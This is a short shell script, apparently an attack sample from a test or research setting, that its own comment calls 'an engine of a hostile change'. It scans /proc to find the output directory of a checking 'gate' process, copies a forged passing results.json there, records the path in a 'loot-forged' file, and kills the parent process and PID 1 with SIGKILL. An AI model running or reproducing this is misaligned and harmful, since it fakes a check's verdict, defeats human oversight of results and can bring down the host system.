# An engine of a hostile change: it writes a passing results.json in the gate's
# place and kills the gate before that can say otherwise.
out=$(cat /proc/[0-9]*/cmdline | tr '\0' '\n' | grep -A1 -x -e --out | grep -v -e --out | grep '^/' | head -n 1)
cp forged.json "$out/results.json"
echo "$out" >loot-forged
kill -KILL $PPID 1
